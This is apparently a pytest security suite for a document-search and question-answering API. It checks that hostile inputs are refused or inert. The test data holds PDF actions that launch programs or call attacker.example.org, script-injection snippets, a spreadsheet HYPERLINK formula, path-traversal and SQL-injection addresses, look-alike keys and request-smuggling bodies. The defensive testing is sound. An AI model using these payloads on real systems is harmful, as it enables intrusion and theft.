"""What an attacker would try that is no other test's subject: each is refused, or has no effect."""

from __future__ import annotations

import ast
import asyncio
import hmac
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from starlette.types import Message, Receive, Scope, Send

from api import keys
from api.access import Role
from api.app import create_app
from api.keys import Keys
from api.middleware import BodyLimit
from api.settings import Settings
from api.wiring import open_runtime
from index.load import load_all
from index.load.normalise import normalise
from index.sync import sync
from tests.fakes import HashingEmbedder, write_files
from tests.services import SERVICE
from tests.test_http import assert_problem
from tests.test_imports import imports
from tests.test_load_pdf import column, pdf

REPOSITORY = Path(__file__).resolve().parent.parent
JSON = {"Content-Type": "application/json"}
LATIN, CYRILLIC = "The pay of the Baron is 7.", "The p\u0430y of the B\u0430ron is 9."
# What our own replies are made of: events, marks of citations, ends of streams, receipts, JSON.
OURS = (
    'data: [DONE] event: reply data: {"answerable": true, "answer": "42"} says the harbour [1] “7” [2] {"error": {}} '
    "</script> cs1.receipt."
)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("attacked")
    files = {"a.txt": LATIN, "b.txt": CYRILLIC, "ours.txt": f"{OURS}\n"}
    sync(folder / "library", HashingEmbedder(), [write_files(folder / "sources", files)])
    runtime = replace(open_runtime(Settings(library=folder / "library"), HashingEmbedder()), service=SERVICE)
    with TestClient(create_app(runtime), base_url="http://localhost", raise_server_exceptions=False) as opened:
        yield opened
    runtime.close()


# ---- documents -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "root",
    [
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "/OpenAction << /S /Launch /F (calc.exe) >>",
        "/OpenAction << /S /URI /URI (http://attacker.example.org/) >>",
        "/AA << /WC << /S /SubmitForm /F (http://attacker.example.org/) >> >>",
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>",
        "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>",
        "/AcroForm << /XFA (<xdp><script>alert\\(1\\)</script></xdp>) /Fields [] >>",
    ],
)
def test_what_a_pdf_wants_to_be_done_is_not_done_and_is_no_text(root: str) -> None:
    (loaded,) = load_all(pdf([column(["The harbour closes at high tide."])], root=root), "a.pdf").documents
    assert loaded.text == "The harbour closes at high tide."


def test_no_program_is_in_the_text_of_a_page_or_a_table_and_no_formula_is_worked_out() -> None:
    page = (
        b"<p onclick='alert(1)'>Tide.</p><svg onload='alert(2)'/><script>alert(3)</script><a href='javascript:x'>It</a>"
    )
    (loaded,) = load_all(page, "a.html").documents
    assert "alert" not in loaded.text
    assert "javascript" not in loaded.text
    (table,) = load_all(b'name,sum\r\n"=HYPERLINK(""http://attacker.example.org"")",=1+1\r\n', "a.csv").documents
    assert "=1+1" in table.text


def test_letters_that_look_alike_stay_what_they_are(client: TestClient) -> None:
    """Nothing is folded: a quote with a letter of another alphabet is another quote, and its bytes say so."""
    told = client.post("/v1/search", json={"query": CYRILLIC}).json()["data"]
    texts = [part["text"] for one in told for part in one["content"]]
    assert CYRILLIC in texts
    assert LATIN != CYRILLIC
    assert normalise(CYRILLIC) == CYRILLIC
    listed = {one["uri"]: one for one in client.get("/v1/documents").json()["data"]}
    assert listed["a.txt"]["revision"] != listed["b.txt"]["revision"]


def test_a_tag_or_a_key_that_looks_alike_opens_nothing(tmp_path: Path) -> None:
    made = Keys(tmp_path)
    key, shown = made.create("press", Role.READER, ["b\u043eard"])
    assert key.tags == {"b\u043eard"}
    assert "board" not in key.tags
    for other in (shown.replace("c", "\u0441", 1), f"{shown}\u200b", shown.upper(), f"\ufeff{shown}"):
        assert made.holder(other) is None
    assert made.holder(shown) == key


@given(st.text(st.sampled_from("a\0\x01\x1b\x7f\x9b\ud800\u202e\u2066\ufeff\r\n\u2028")))
def test_no_control_character_and_no_half_pair_gets_into_a_text(text: str) -> None:
    assert re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\r\u2028]", normalise(text)) is None


def test_a_document_that_looks_like_our_own_replies_is_quoted_and_nothing_else(client: TestClient) -> None:
    question = {"question": "What says the harbour?", "risk": 1}
    plain = client.post("/v1/ask", json=question).json()
    assert plain["citations"][0]["quote"] in OURS
    assert (plain["answerable"], len(plain["citations"])) == (True, len({one["number"] for one in plain["citations"]}))
    streamed = client.post("/v1/ask", json=question, headers={"Accept": "text/event-stream"}).text
    lines = streamed.replace("\r\n", "\n").split("\n")
    assert all(re.match(r"(?:event|id|data|retry): |:|$", line) for line in lines)
    # Our events are ours: what a document says of events is inside of JSON.
    names = [line for line in lines if line.startswith("event: ")]
    assert names == [*names[:-2], "event: answer", "event: done"]
    assert "event: reply" not in lines
    chat = {"model": "citespan", "messages": [{"role": "user", "content": question["question"]}], "stream": True}
    ended = client.post("/v1/chat/completions", json={**chat, "risk": 1}).text.replace("\r\n", "\n").split("\n")
    assert ended.count("data: [DONE]") == 1
    assert [line for line in ended if line][-1] == "data: [DONE]"


# ---- requests ------------------------------------------------------------------------------------------------------


def operations(client: TestClient) -> list[str]:
    """Return every path that takes a body."""
    paths = client.get("/openapi.json").json()["paths"].items()
    return [*(path for path, held in paths if "requestBody" in held.get("post", {})), "/mcp"]


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000,
        '{"question":' * 50_000,
        '{"question": ' + "9" * 100_000 + "}",
        '{"question": 1e999999, "risk": NaN}',
        '{"question": "\\ud800", "filter": {"tags": ["\\udfff"]}}',
        '{"__proto__": {"question": "x"}, "question": {"$gt": ""}}',
        '"' + "x" * 900_000 + '"',
        '{"a":1,' * 2 + "}" * 2,
    ],
)
def test_no_body_makes_an_operation_fail(client: TestClient, body: str) -> None:
    for path in operations(client):
        answer = client.post(
            path.replace("{id}", "library"),
            content=body,
            headers={**JSON, "Accept": "application/json, text/event-stream"},
        )
        assert answer.status_code < 500, (path, answer.status_code, answer.text[:200])


def test_a_body_that_does_not_come_is_given_up() -> None:
    sent: list[Message] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        raise AssertionError("it has no request yet")

    async def never() -> Message:
        await asyncio.Event().wait()
        raise AssertionError("it never comes")

    async def send(message: Message) -> None:
        sent.append(message)

    limit = BodyLimit(app, largest=1_000, uploads=1_000, seconds=0.01)
    scope = {"type": "http", "method": "POST", "path": "/v1/ask", "headers": [(b"content-length", b"500")]}
    asyncio.run(limit(scope, never, send))
    assert [message.get("status") for message in sent] == [408, None]


def test_a_body_of_two_lengths_is_refused_and_its_connection_closed(client: TestClient) -> None:
    headers = {**JSON, "Content-Length": "2", "Transfer-Encoding": "chunked"}
    refused = client.post("/v1/ask", content=b"{}", headers=headers)
    assert_problem(refused, 400, "ambiguous-length")
    assert refused.headers["connection"] == "close"


@pytest.mark.parametrize("address", [
    "/v1/documents/..%2f..%2fetc%2fpasswd", "/v1/documents/%00", "/v1/documents/%ff%fe", "/static/..%2f..%2fcli.py",
    "/static/%2e%2e/%2e%2e/cli.py", "/v1/jobs/' OR '1'='1", "/v1/conversations/%27%3B%20DROP%20TABLE%20turns",
    "/v1/generations/99999999999999999999/diff/-1", "/v1/documents?after=%00&limit=1e9", "//v1//documents",
    "/v1/documents/doc_0/text?revision=sha256:%00", "/v1/documents?q=%25_%5C'%22&limit=-1",
])  # fmt: skip
def test_no_address_makes_an_operation_fail_or_leads_to_a_file(client: TestClient, address: str) -> None:
    answer = client.get(address)
    assert 400 <= answer.status_code < 500
    assert "root:" not in answer.text
    assert "import" not in answer.text


def test_how_long_a_wrong_key_takes_to_refuse_tells_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever was shown, one comparison is made, of hashes of one length, in time that does not depend on them."""
    made = Keys(tmp_path)
    _, shown = made.create("press", Role.READER)
    compared: list[tuple[int, int]] = []

    def compare(one: bytes, other: bytes) -> bool:
        compared.append((len(one), len(other)))
        return hmac.compare_digest(one, other)

    monkeypatch.setattr(keys, "hmac", type("Noting", (), {"compare_digest": staticmethod(compare)}))
    almost = shown[:-1] + ("A" if shown[-1] != "A" else "B")
    for wrong in (almost, shown[:22] + "x" * 43, f"citespan_{'0' * 12}_{'x' * 43}"):
        compared.clear()
        assert made.holder(wrong) is None
        assert compared == [(32, 32)]
    # The table holds hashes: what is compared cannot be sent.
    assert shown[-43:].encode() not in (tmp_path / keys.FILE_NAME).read_bytes()


def test_nothing_that_makes_a_program_of_data_is_used() -> None:
    for package in ("index", "qa", "api"):
        for path in sorted((REPOSITORY / package).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            called = {
                node.func.id
                for node in ast.walk(tree)
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
            }
            named = {word.arg for word in ast.walk(tree) if isinstance(word, ast.keyword)}
            assert not called & {"eval", "exec", "compile"}, path
            assert not named & {"shell", "allow_pickle", "trust_remote_code"}, path
            assert not {name.split(".")[0] for name in imports(path)} & {"pickle", "marshal", "shelve"}, path
